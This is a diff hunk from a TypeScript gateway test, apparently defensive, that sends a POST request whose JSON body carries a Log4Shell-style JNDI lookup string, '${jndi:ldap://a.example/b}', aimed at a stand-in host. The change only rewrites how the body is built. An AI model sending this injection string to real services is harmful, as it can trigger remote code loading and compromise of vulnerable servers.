@@ -135,7 +135,7 @@ export function testGateway(plane: PlaneUnderTest): void {
         '/v1/x',
         {
           method: 'POST',
-          body: '{"text":"${jndi:ldap://a.example/b}"}',
+          body: JSON.stringify({ text: `$${'{jndi:ldap://a.example/b}'}` }),
           headers: { 'content-type': 'application/json' },
         },
       ],
